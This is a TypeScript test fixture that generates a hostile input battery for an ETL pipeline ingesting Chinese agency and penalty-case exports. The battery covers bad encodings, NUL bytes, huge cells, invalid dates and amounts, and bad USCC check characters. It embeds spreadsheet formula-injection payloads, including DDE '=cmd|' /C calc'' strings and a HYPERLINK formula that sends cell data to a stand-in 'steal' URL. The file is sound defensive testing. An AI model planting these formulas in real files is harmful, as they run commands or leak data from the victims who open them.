import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { Float64, makeData, makeVector, Table, tableToIPC, Utf8, vectorFromArray } from 'apache-arrow';
// exceljs's own zip library (a dependency of exceljs): the one way here to write a sheet no spreadsheet program would
import JSZip from 'jszip';
import { usccCheckCharacter } from '../../src/domain/uscc';

/**
 * The hostile input battery (issue 8, part 3): feeds an agency's export or an attacker could really deliver —
 * wrong and mixed encodings, formula injection, huge cells, a line of a million columns, invalid UTF-8, NUL
 * bytes, a BOM in the middle of a file, impossible dates, negative amounts, USCCs with a wrong check character —
 * with good rows mixed in. Generated at test time into a folder (no binaries in the repository), each file with
 * what must become of it: the good rows stored exactly, every bad row in quarantine at its position with a
 * reason naming the field, and for file-level damage a run problem naming the file and the position.
 *
 * A clean feed (`writeCleanFeed`) is loaded first: the hostile one re-delivers some of its keys with bad
 * content and newer timestamps, which must leave the stored rows as they were.
 */

// ---------------------------------------------------------------------------------------------------------------
// Agencies and the rows' shapes

const QUANZHOU = '350500';
const LICHENG = '350502';

/** A valid USCC of a 机关 (11) in a region, from a nine-digit organisation code: the check character computed. */
function usccOf(region: string, orgCode: string): string {
  const first17 = `11${region}${orgCode}`;
  return first17 + usccCheckCharacter(first17);
}

/** The same code with another check character: what a clerk's typo looks like. */
function withWrongCheckCharacter(uscc: string): string {
  const right = uscc[17]!;
  return uscc.slice(0, 17) + (right === '1' ? '2' : '1');
}

export const cleanAgencies = {
  city: { name: '泉州市市场监督管理局（测试）', uscc: usccOf(QUANZHOU, '000000001'), regionCode: QUANZHOU, tier: '市级' },
  county: { name: '鲤城区市场监督管理局（测试）', uscc: usccOf(LICHENG, '000000002'), regionCode: LICHENG, tier: '县级' },
} as const;

/** Agencies of 鲤城区 whose names look like spreadsheet formulas; they are loaded as the text they are. */
export const formulaAgencies = [
  { name: "=cmd|' /C calc'!A0", uscc: usccOf(LICHENG, '000000011') },
  { name: '+SUM(1,2)', uscc: usccOf(LICHENG, '000000012') },
  { name: '@SUM(1,2)', uscc: usccOf(LICHENG, '000000013') },
  { name: "-2+3+cmd|' /C calc'!A0", uscc: usccOf(LICHENG, '000000014') },
] as const;

/** The formula-looking texts the battery stores and exports. */
export const formulaTexts = {
  dde: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("http://example.invalid/steal?d="&A1,"点我")',
  plus: '+SUM(A1:A9)',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
} as const;

const AGENCY_HEADER = ['主体名称', '统一社会信用代码', '行政区划代码', '主体层级', '执法领域', '主体性质', '更新时间'] as const;
const CASE_HEADER = ['案件编号', '主体代码', '行为类别', '决定日期', '相对人名称', '罚没金额', '不公开理由', '更新时间'] as const;
type CaseHeader = (typeof CASE_HEADER)[number];
type CaseCells = Partial<Record<CaseHeader, string>>;

const CLEAN_UPDATED = '2025-05-01 09:00:00';
/** newer than every clean row: a bad re-delivery would win if it were not refused */
const HOSTILE_UPDATED = '2025-06-01 10:00:00';

/** A penalty case of an agency with every field a good row needs; `cells` replace or add fields. */
function aCase(caseId: string, agency: string, cells: CaseCells = {}): CaseCells {
  return {
    案件编号: caseId, 主体代码: agency, 行为类别: '行政处罚', 决定日期: '2025-03-03', 相对人名称: '泉州市某某食品有限公司',
    罚没金额: '500.00', 不公开理由: '', 更新时间: HOSTILE_UPDATED, ...cells,
  };
}

// ---------------------------------------------------------------------------------------------------------------
// What the battery expects

/** A row that must be in the warehouse exactly so: its key and the stored columns (as text) that matter. */
export interface ExpectedCase {
  agencyUscc: string;
  caseId: string;
  partyName: string | null;
  amount: string | null;
  decidedOn: string | null;
  /** compared by length and SHA-256 when long */
  exemptReason: string | null;
}

export interface ExpectedAgency { uscc: string; name: string; regionCode: string }

/** A row that must be in quarantine at `position`, with at least these reasons, each naming its field. */
export interface ExpectedRefusal {
  position: string;
  /** code (exact, or a pattern) and the field it names; field null for a reason about the whole line */
  reasons: { code: string | RegExp; field: string | null }[];
}

/** A file the run could not read (whole or past a point): a problem naming it and where. */
export interface ExpectedProblem { file: string; message: RegExp }

/** One hostile file: what it does, and how it must end. */
export interface HostileCase {
  file: string;
  /** what is hostile about it, for the report */
  what: string;
  entity: 'agencies' | 'cases';
  good: (ExpectedCase | ExpectedAgency)[];
  refused: ExpectedRefusal[];
  problem?: ExpectedProblem;
  /** keys of the clean feed that this file re-delivers with bad content (their stored rows must not change) */
  redelivers?: string[];
}

function expectedCase(cells: CaseCells): ExpectedCase {
  const text = (value: string | undefined) => (value === undefined || value.trim() === '' ? null : value.trim());
  return {
    agencyUscc: cells.主体代码!, caseId: text(cells.案件编号)!, partyName: text(cells.相对人名称), amount: text(cells.罚没金额),
    decidedOn: text(cells.决定日期), exemptReason: text(cells.不公开理由),
  };
}

// ---------------------------------------------------------------------------------------------------------------
// Writing text files

const csvCell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
const caseLine = (cells: CaseCells) => CASE_HEADER.map((header) => csvCell(cells[header] ?? '')).join(',');
const CRLF = '\r\n';
const utf8 = (text: string) => Buffer.from(text, 'utf8');
const gbk = (text: string) => iconv.encode(text, 'gbk');

function write(dir: string, file: string, content: Buffer | string): void {
  fs.writeFileSync(path.join(dir, file), content);
}

/** `第 N 行` labels as the CSV reader gives them. */
const line = (file: string, n: number) => `${file} 第 ${n} 行`;

// ---------------------------------------------------------------------------------------------------------------
// The clean feed

export interface CleanFeed { agencies: ExpectedAgency[]; cases: ExpectedCase[] }

/** Two agencies of 泉州 and their cases, in plain UTF-8 and GBK: what is stored before the hostile run. */
export function writeCleanFeed(dir: string): CleanFeed {
  fs.mkdirSync(dir, { recursive: true });
  const agencies = Object.values(cleanAgencies);
  write(dir, '执法主体.csv', utf8([AGENCY_HEADER.join(','), ...agencies.map((a) =>
    [a.name, a.uscc, a.regionCode, a.tier, '市场监管', '法定', CLEAN_UPDATED].join(','))].join(CRLF) + CRLF));
  const cases = Array.from({ length: 8 }, (_, i) => aCase(`CLEAN-${i + 1}`, i % 2 ? cleanAgencies.county.uscc : cleanAgencies.city.uscc, {
    决定日期: `2025-0${1 + (i % 5)}-1${i}`, 相对人名称: `泉州市清洁数据有限公司${i + 1}`, 罚没金额: `${(i + 1) * 100}.00`, 更新时间: CLEAN_UPDATED,
  }));
  write(dir, 'cases-clean.csv', gbk([CASE_HEADER.join(','), ...cases.map(caseLine)].join(CRLF) + CRLF));
  return {
    agencies: agencies.map(({ uscc, name, regionCode }) => ({ uscc, name, regionCode })),
    cases: cases.map(expectedCase),
  };
}

// ---------------------------------------------------------------------------------------------------------------
// The hostile feed

const MiB = 1024 * 1024;
/** the readers' cell limit (etl/readers/csv-reader.ts DEFAULT_MAX_CELL_BYTES) */
const CELL_LIMIT_BYTES = MiB;
const HUGE_CELL = 5 * MiB;

/**
 * Writes every hostile file into `dir` and says how each must end. The cases belong to the clean feed's
 * agencies and to the formula-named agencies of agencies-formula.csv (loaded first: agencies come before cases).
 */
export async function writeHostileFeeds(dir: string): Promise<HostileCase[]> {
  fs.mkdirSync(dir, { recursive: true });
  const city = cleanAgencies.city.uscc;
  const county = cleanAgencies.county.uscc;
  const battery: HostileCase[] = [];

  // --- agencies whose names are formulas; a wrong check character; a clean agency re-delivered into a region that does not exist
  {
    const file = 'agencies-formula.csv';
    const wrong = withWrongCheckCharacter(usccOf(LICHENG, '000000019'));
    const rows = [
      ...formulaAgencies.map((a) => [a.name, a.uscc, LICHENG, '县级', '市场监管', '法定', HOSTILE_UPDATED]),
      ['鲤城区某局（校验位错误）', wrong, LICHENG, '县级', '市场监管', '法定', HOSTILE_UPDATED],
      [cleanAgencies.city.name, city, '350599', '市级', '市场监管', '法定', HOSTILE_UPDATED],
    ];
    write(dir, file, utf8([AGENCY_HEADER.join(','), ...rows.map((row) => row.map(csvCell).join(','))].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'agencies',
      what: 'agency names =cmd|…, +SUM(…), @SUM(…), -2+3…; a USCC with a wrong check character; a stored agency re-delivered, newer, into region 350599',
      good: formulaAgencies.map((a) => ({ uscc: a.uscc, name: a.name, regionCode: LICHENG })),
      refused: [
        { position: line(file, 6), reasons: [{ code: 'USCC_CHECK_CHARACTER', field: '统一社会信用代码' }] },
        { position: line(file, 7), reasons: [{ code: 'UNKNOWN_REGION', field: '行政区划代码' }] },
      ],
      redelivers: [city],
    });
  }

  // --- formula injection in CSV cells
  {
    const file = 'cases-01-formula.csv';
    const good = [
      aCase(formulaTexts.hyperlink, formulaAgencies[0].uscc, { 相对人名称: formulaTexts.dde }),
      aCase('H-01-2', formulaAgencies[1].uscc, { 相对人名称: formulaTexts.plus }),
      aCase('H-01-3', formulaAgencies[2].uscc, { 相对人名称: formulaTexts.at }),
      aCase('H-01-4', formulaAgencies[3].uscc, { 相对人名称: formulaTexts.minus }),
    ];
    const bad = [
      aCase('H-01-5', county, { 罚没金额: '+SUM(1,2)' }),
      aCase('H-01-6', county, { 罚没金额: '=1+2' }),
      aCase('H-01-7', county, { 决定日期: '=TODAY()' }),
      aCase('H-01-8', formulaTexts.dde),
    ];
    write(dir, file, utf8([CASE_HEADER.join(','), ...good.map(caseLine), ...bad.map(caseLine)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: 'formula-looking text in CSV cells: =HYPERLINK(…) as a case id, =cmd|…, +SUM, @SUM, -2+3 as party names; =… and +SUM(…) as an amount, =TODAY() as a date, =cmd|… as a USCC',
      good: good.map(expectedCase),
      refused: [
        { position: line(file, 6), reasons: [{ code: 'INVALID_AMOUNT', field: '罚没金额' }] },
        { position: line(file, 7), reasons: [{ code: 'INVALID_AMOUNT', field: '罚没金额' }] },
        { position: line(file, 8), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
        { position: line(file, 9), reasons: [{ code: /^USCC_/, field: '主体代码' }] },
      ],
    });
  }

  // --- impossible dates, negative amounts, wrong check characters (a GBK file, as county offices export)
  {
    const file = 'cases-02-dates-amounts-uscc.csv';
    const rows = [
      aCase('H-02-1', county, { 罚没金额: '1200.50' }),
      aCase('H-02-2', county, { 决定日期: '2025-02-30' }),
      aCase('H-02-3', county, { 决定日期: '2025年2月29日' }),
      aCase('H-02-4', county, { 罚没金额: '-500' }),
      aCase('H-02-5', county, { 罚没金额: '￥-1,000.00' }),
      aCase('H-02-6', withWrongCheckCharacter(county)),
      // a stored case re-delivered, newer, with a day that does not exist: refused, the stored row kept
      aCase('CLEAN-1', city, { 决定日期: '2025-02-30', 相对人名称: '篡改后的名称' }),
      aCase('H-02-8', city, { 决定日期: '2024-02-29' }),
    ];
    write(dir, file, gbk([CASE_HEADER.join(','), ...rows.map(caseLine)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: 'GBK: dates 2025-02-30 and 2025年2月29日, amounts -500 and ￥-1,000.00, a USCC with a wrong check character, a stored case re-delivered newer with 2025-02-30',
      good: [expectedCase(rows[0]!), expectedCase(rows[7]!)],
      refused: [
        { position: line(file, 3), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
        { position: line(file, 4), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
        { position: line(file, 5), reasons: [{ code: 'NEGATIVE_AMOUNT', field: '罚没金额' }] },
        { position: line(file, 6), reasons: [{ code: 'NEGATIVE_AMOUNT', field: '罚没金额' }] },
        { position: line(file, 7), reasons: [{ code: 'USCC_CHECK_CHARACTER', field: '主体代码' }] },
        { position: line(file, 8), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
      ],
      redelivers: [`${city}|CLEAN-1`],
    });
  }

  // --- a GBK file declared UTF-8 by a byte-order mark
  {
    const file = 'cases-03-gbk-declared-utf8.csv';
    const rows = [aCase('H-03-1', county), aCase('H-03-2', county)];
    write(dir, file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), gbk([CASE_HEADER.join(','), ...rows.map(caseLine)].join(CRLF) + CRLF)]));
    battery.push({
      file, entity: 'cases',
      what: 'a GBK file that starts with a UTF-8 byte-order mark (declared UTF-8): its Chinese header cannot be read',
      good: [], refused: [],
      problem: { file, message: new RegExp(`${escape(file)} 第 1 行（表头）.*UTF-8.*GBK`) },
    });
  }

  // --- UTF-8 rows appended to a GBK file: the file is (rightly) read as GBK, the appended rows are not GBK
  {
    const file = 'cases-04-utf8-rows-in-gbk.csv';
    const gbkRows = Array.from({ length: 20 }, (_, i) => aCase(`H-04-${i + 1}`, county, { 相对人名称: `鲤城区某某餐饮店第${i + 1}分店` }));
    const utf8Rows = [
      aCase('H-04-U1', county, { 行为类别: 'PENALTY', 相对人名称: '张三丰' }),
      aCase('H-04-U2', county, { 行为类别: 'PENALTY', 相对人名称: '泉州市某某贸易有限公司' }),
    ];
    write(dir, file, Buffer.concat([
      gbk([CASE_HEADER.join(','), ...gbkRows.map(caseLine)].join(CRLF) + CRLF),
      utf8(utf8Rows.map(caseLine).join(CRLF) + CRLF),
    ]));
    battery.push({
      file, entity: 'cases',
      what: 'a GBK file with two UTF-8 rows appended (UTF-8 Chinese decoded as GBK is well-formed nonsense, with no undecodable byte to notice)',
      good: gbkRows.map(expectedCase),
      refused: [22, 23].map((n) => ({ position: line(file, n), reasons: [{ code: 'ENCODING_MIXED', field: '相对人名称' }] })),
    });
  }

  // --- GBK rows in a UTF-8 file: the file is read as UTF-8, the GBK rows' bytes are not UTF-8
  {
    const file = 'cases-05-gbk-rows-in-utf8.csv';
    const utf8Rows = Array.from({ length: 40 }, (_, i) => aCase(`H-05-${i + 1}`, county, { 相对人名称: `鲤城区某某五金店第${i + 1}号` }));
    const gbkRows = [aCase('H-05-G1', county, { 行为类别: 'PENALTY', 相对人名称: '李四' }), aCase('H-05-G2', county, { 行为类别: 'PENALTY', 相对人名称: '王五' })];
    write(dir, file, Buffer.concat([
      utf8([CASE_HEADER.join(','), ...utf8Rows.map(caseLine)].join(CRLF) + CRLF),
      gbk(gbkRows.map(caseLine).join(CRLF) + CRLF),
    ]));
    battery.push({
      file, entity: 'cases',
      what: 'a UTF-8 file with two GBK rows pasted in (GBK bytes read as UTF-8)',
      good: utf8Rows.map(expectedCase),
      refused: [42, 43].map((n) => ({ position: line(file, n), reasons: [{ code: 'ENCODING_INVALID', field: '相对人名称' }] })),
    });
  }

  // --- invalid UTF-8 byte sequences
  {
    const file = 'cases-06-invalid-utf8.csv';
    const good = Array.from({ length: 30 }, (_, i) => aCase(`H-06-${i + 1}`, county, { 相对人名称: `鲤城区某某食杂店${i + 1}` }));
    const invalid: [string, Buffer][] = [
      ['0xFF', Buffer.from([0x41, 0xff, 0x42])],
      ['overlong /', Buffer.from([0xc0, 0xaf])],
      ['lone continuation byte', Buffer.from([0x80, 0x41])],
      ['cut 3-byte character', Buffer.from([0xe4, 0xb8])],
      ['encoded surrogate (CESU-8)', Buffer.from([0xed, 0xa0, 0x80])],
      ['5-byte lead', Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80])],
    ];
    const badLines = invalid.map(([, bytes], i) => {
      const cells = aCase(`H-06-B${i + 1}`, county, { 相对人名称: '\u0000' });
      const [before, after] = caseLine(cells).split('\u0000');
      return Buffer.concat([utf8(before!), utf8('某'), bytes, utf8('公司'), utf8(after! + CRLF)]);
    });
    write(dir, file, Buffer.concat([utf8([CASE_HEADER.join(','), ...good.map(caseLine)].join(CRLF) + CRLF), ...badLines]));
    battery.push({
      file, entity: 'cases',
      what: `invalid UTF-8 in party names: ${invalid.map(([name]) => name).join(', ')}`,
      good: good.map(expectedCase),
      refused: invalid.map((_, i) => ({ position: line(file, 32 + i), reasons: [{ code: 'ENCODING_INVALID', field: '相对人名称' }] })),
    });
  }

  // --- a NUL byte in a cell, past the first 128 KiB the reader looks at for binary files, and near the start
  {
    const file = 'cases-07-nul-late.csv';
    // a long but acceptable free-text cell (不公开理由 has no length limit below the cell limit) pushes the NUL row past the first chunk
    const long = aCase('H-07-1', county, { 不公开理由: '涉及国家秘密、商业秘密或者个人隐私，依法不予公开。'.repeat(6000) });
    const nul = aCase('H-07-2', county, { 相对人名称: '某某\u0000公司' });
    const after = aCase('H-07-3', county);
    write(dir, file, utf8([CASE_HEADER.join(','), caseLine(long), caseLine(nul), caseLine(after)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: 'a NUL byte (which PostgreSQL text cannot hold) in a party name 400 KB into the file, after a long but acceptable cell',
      good: [expectedCase(long), expectedCase(after)],
      refused: [{ position: line(file, 3), reasons: [{ code: 'INVALID_CHARACTER', field: '相对人名称' }] }],
    });
  }
  {
    const file = 'cases-08-nul-early.csv';
    const rows = [aCase('H-08-1', county), aCase('H-08-2', county, { 相对人名称: '某某\u0000公司' }), aCase('H-08-3', county)];
    write(dir, file, utf8([CASE_HEADER.join(','), ...rows.map(caseLine)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: 'one NUL byte in a party name on line 3 (a text file with a stray NUL, not a binary file)',
      good: [expectedCase(rows[0]!), expectedCase(rows[2]!)],
      refused: [{ position: line(file, 3), reasons: [{ code: 'INVALID_CHARACTER', field: '相对人名称' }] }],
    });
  }

  // --- a BOM in the middle of the file: two UTF-8 exports with BOM concatenated, and a BOM starting a data line
  {
    const file = 'cases-09-bom-mid-file.csv';
    const first = aCase('H-09-1', county);
    const second = aCase('H-09-2', county);
    const third = aCase('H-09-3', county);
    write(dir, file, utf8(`\uFEFF${CASE_HEADER.join(',')}${CRLF}${caseLine(first)}${CRLF}\uFEFF${CASE_HEADER.join(',')}${CRLF}` +
      `\uFEFF${caseLine(second)}${CRLF}${caseLine(third)}${CRLF}`));
    battery.push({
      file, entity: 'cases',
      what: 'a byte-order mark in the middle of a file: a second BOM-and-header (two exports concatenated), and a BOM starting a data line',
      good: [first, second, third].map(expectedCase),
      refused: [{ position: line(file, 3), reasons: [{ code: /^USCC_/, field: '主体代码' }, { code: 'UNKNOWN_CODE', field: '行为类别' }, { code: 'INVALID_DATE', field: '决定日期' }] }],
    });
  }

  // --- huge cells
  {
    const file = 'cases-10-huge-cells.csv';
    const rows = [
      aCase('H-10-1', county),
      aCase('H-10-2', county, { 相对人名称: 'x'.repeat(HUGE_CELL) }),
      aCase('H-10-3', county, { 不公开理由: '长'.repeat(HUGE_CELL / 3) }),
      aCase('H-10-4', county),
    ];
    write(dir, file, utf8([CASE_HEADER.join(','), ...rows.map(caseLine)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: `5 MB in one cell: a party name (column limit 200 characters) and a free-text reason (no column limit); the reader keeps ${CELL_LIMIT_BYTES} bytes of it`,
      good: [expectedCase(rows[0]!), expectedCase(rows[3]!)],
      refused: [
        { position: line(file, 3), reasons: [{ code: 'CELL_TOO_LARGE', field: '相对人名称' }, { code: 'TEXT_TOO_LONG', field: '相对人名称' }] },
        { position: line(file, 4), reasons: [{ code: 'CELL_TOO_LARGE', field: '不公开理由' }] },
      ],
    });
  }

  // --- a line of a million columns
  {
    const file = 'cases-11-million-columns.csv';
    const rows = [aCase('H-11-1', county), aCase('H-11-2', county), aCase('H-11-3', county)];
    const wide = caseLine(rows[1]!) + ','.repeat(1_000_000 - CASE_HEADER.length);
    write(dir, file, utf8([CASE_HEADER.join(','), caseLine(rows[0]!), wide, caseLine(rows[2]!)].join(CRLF) + CRLF));
    battery.push({
      file, entity: 'cases',
      what: 'a line of 1,000,000 columns (the header has 8)',
      good: [expectedCase(rows[0]!), expectedCase(rows[2]!)],
      refused: [{ position: line(file, 3), reasons: [{ code: 'CSV_COLUMN_COUNT', field: null }, { code: 'ROW_TOO_LARGE', field: null }] }],
    });
  }

  // --- XLSX: formula injection as text and as real formulas, dates, amounts, USCC, a huge cell, a row as wide as Excel allows
  {
    const file = 'cases-12-hostile.xlsx';
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('执法案件');
    sheet.addRow([...CASE_HEADER]);
    const cells = (row: CaseCells): ExcelJS.CellValue[] => CASE_HEADER.map((header) => row[header] ?? null);
    const good = [aCase('H-12-1', formulaAgencies[0].uscc, { 相对人名称: formulaTexts.dde }), aCase('H-12-2', county, { 相对人名称: formulaTexts.at })];
    sheet.addRow(cells(good[0]!));
    sheet.addRow(cells(good[1]!));
    const formula = (row: CaseCells, value: ExcelJS.CellFormulaValue) => {
      const values = cells(row);
      values[CASE_HEADER.indexOf('相对人名称')] = value;
      return values;
    };
    // a real DDE formula whose cached result is an error, and one saved without a result
    sheet.addRow(formula(aCase('H-12-3', county), { formula: "cmd|' /C calc'!A0", result: { error: '#REF!' } as unknown as ExcelJS.CellErrorValue, date1904: false }));
    sheet.addRow(formula(aCase('H-12-4', county), { formula: 'HYPERLINK("http://example.invalid/","点我")', date1904: false }));
    // a formula with a cached result: the result the clerk saw is the value, the formula is never read
    const cached = aCase('H-12-5', county, { 相对人名称: '泉州市某某公司（公式结果）' });
    sheet.addRow(formula(cached, { formula: 'CONCATENATE("泉州市某某公司","（公式结果）")', result: cached.相对人名称!, date1904: false }));
    sheet.addRow(cells(aCase('H-12-6', county, { 决定日期: '2025-02-30' })));
    const negative = cells(aCase('H-12-7', county));
    negative[CASE_HEADER.indexOf('罚没金额')] = -500;
    sheet.addRow(negative);
    sheet.addRow(cells(aCase('H-12-8', withWrongCheckCharacter(county))));
    sheet.addRow(cells(aCase('H-12-9', county, { 不公开理由: 'x'.repeat(HUGE_CELL) })));
    // as wide as a sheet can be (A … XFD): 16,376 cells right of the header
    const wide = cells(aCase('H-12-10', county));
    while (wide.length < 16384) wide.push('多余');
    sheet.addRow(wide);
    // an amount a formula computed as 0: the cached 0 is the amount
    const zero = aCase('H-12-11', county, { 罚没金额: '0.00' });
    const zeroCells = cells(zero);
    zeroCells[CASE_HEADER.indexOf('罚没金额')] = { formula: 'B2*0', result: 0, date1904: false };
    sheet.addRow(zeroCells);
    const last = aCase('H-12-12', county);
    sheet.addRow(cells(last));
    await workbook.xlsx.writeFile(path.join(dir, file));
    const at = (n: number) => `${file} 工作表「执法案件」第 ${n} 行`;
    battery.push({
      file, entity: 'cases',
      what: 'XLSX: =cmd|… and @SUM… as text cells; real formulas (a DDE formula cached as #REF!, one without a cached result, one with a cached text); 2025-02-30; -500 as a number; a wrong check character; 5 MB in one cell; a row filled to column XFD; an amount a formula computed as 0',
      good: [...good, cached, zero, last].map(expectedCase),
      refused: [
        { position: at(4), reasons: [{ code: 'XLSX_CELL_ERROR', field: '相对人名称' }] },
        { position: at(5), reasons: [{ code: 'XLSX_FORMULA_NO_RESULT', field: '相对人名称' }] },
        { position: at(7), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
        { position: at(8), reasons: [{ code: 'NEGATIVE_AMOUNT', field: '罚没金额' }] },
        { position: at(9), reasons: [{ code: 'USCC_CHECK_CHARACTER', field: '主体代码' }] },
        { position: at(10), reasons: [{ code: 'CELL_TOO_LARGE', field: '不公开理由' }] },
        { position: at(11), reasons: [{ code: 'XLSX_CELL_OUTSIDE_HEADER', field: null }] },
      ],
    });
  }

  // --- XLSX with a cell past column XFD: no spreadsheet can hold it, the sheet cannot be read from there on
  {
    const file = 'cases-13-beyond-xfd.xlsx';
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('执法案件');
    sheet.addRow([...CASE_HEADER]);
    const zip = await JSZip.loadAsync(await workbook.xlsx.writeBuffer());
    const part = Object.keys(zip.files).find((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))!;
    const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
    const rows = `<row r="2">${inline('A2', 'H-13-1')}${inline('B2', county)}<c r="ZZZZ2"><v>1</v></c></row>` +
      `<row r="3">${inline('A3', 'H-13-2')}${inline('B3', county)}</row>`;
    const xml = (await zip.file(part)!.async('string')).replace(/<dimension[^>]*\/>/, '').replace(/<sheetData\s*\/>|<\/sheetData>/,
      (tag) => (tag.startsWith('</') ? `${rows}</sheetData>` : `<sheetData>${rows}</sheetData>`));
    zip.file(part, xml);
    write(dir, file, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
    battery.push({
      file, entity: 'cases',
      what: 'XLSX whose row 2 has a cell at column ZZZZ (past XFD, the last column a workbook can have)',
      good: [], refused: [],
      problem: { file, message: new RegExp(`${escape(file)} 工作表「执法案件」第 1 行起: 无法读取.*ZZZZ`) },
    });
  }

  // --- Arrow: invalid UTF-8 in a string column, a NUL, a negative amount, 2025-02-30, a huge string, formula text
  {
    const file = 'cases-14-hostile.arrow';
    const records: { cells: CaseCells; partyBytes?: Buffer; amount: number | null }[] = [
      { cells: aCase('H-14-1', formulaAgencies[0].uscc, { 相对人名称: formulaTexts.dde }), amount: 500 },
      { cells: aCase('H-14-2', county), partyBytes: Buffer.from([0xe6, 0x9f, 0x90, 0xff, 0xfe, 0x41]), amount: 500 },
      { cells: aCase('H-14-3', county, { 相对人名称: '某某\u0000公司' }), amount: 500 },
      { cells: aCase('H-14-4', county), amount: -1 },
      { cells: aCase('H-14-5', county, { 决定日期: '2025-02-30' }), amount: 500 },
      { cells: aCase('H-14-6', county, { 不公开理由: 'x'.repeat(HUGE_CELL) }), amount: 500 },
      { cells: aCase('H-14-7', county), amount: 500 },
    ];
    const text = (header: CaseHeader) => vectorFromArray(records.map((r) => r.cells[header] || null), new Utf8());
    const partyNames = records.map((r) => r.partyBytes ?? Buffer.from(r.cells.相对人名称 ?? '', 'utf8'));
    const offsets = new Int32Array(records.length + 1);
    partyNames.forEach((bytes, i) => { offsets[i + 1] = offsets[i]! + bytes.length; });
    const party = makeVector(makeData({ type: new Utf8(), length: records.length, nullCount: 0, valueOffsets: offsets, data: Buffer.concat(partyNames) }));
    const table = new Table({
      案件编号: text('案件编号'), 主体代码: text('主体代码'), 行为类别: text('行为类别'), 决定日期: text('决定日期'),
      相对人名称: party, 罚没金额: vectorFromArray(records.map((r) => r.amount), new Float64()), 不公开理由: text('不公开理由'),
      更新时间: text('更新时间'),
    });
    write(dir, file, Buffer.from(tableToIPC(table, 'file')));
    const record = (n: number) => `${file} 第 ${n} 条记录`;
    battery.push({
      file, entity: 'cases',
      what: 'Arrow: formula text; invalid UTF-8 bytes in a string column; a NUL; amount -1; 2025-02-30; a 5 MB string',
      good: [
        { ...expectedCase(records[0]!.cells), amount: '500.00' },
        { ...expectedCase(records[6]!.cells), amount: '500.00' },
      ],
      refused: [
        { position: record(2), reasons: [{ code: 'ENCODING_INVALID', field: '相对人名称' }] },
        { position: record(3), reasons: [{ code: 'INVALID_CHARACTER', field: '相对人名称' }] },
        { position: record(4), reasons: [{ code: 'NEGATIVE_AMOUNT', field: '罚没金额' }] },
        { position: record(5), reasons: [{ code: 'INVALID_DATE', field: '决定日期' }] },
        { position: record(6), reasons: [{ code: 'CELL_TOO_LARGE', field: '不公开理由' }] },
      ],
    });
  }

  // --- UTF-16 text (Excel's 「Unicode 文本」), which is not an accepted encoding
  {
    const file = 'cases-15-utf16.csv';
    const text = [CASE_HEADER.join(','), caseLine(aCase('H-15-1', county))].join(CRLF) + CRLF;
    write(dir, file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    battery.push({
      file, entity: 'cases', what: 'UTF-16 text with its byte-order mark', good: [], refused: [],
      problem: { file, message: new RegExp(`${escape(file)}: 文件是 UTF-16 编码`) },
    });
  }

  return battery;
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

export const hostileLimits = { cellLimitBytes: CELL_LIMIT_BYTES, hugeCellBytes: HUGE_CELL } as const;
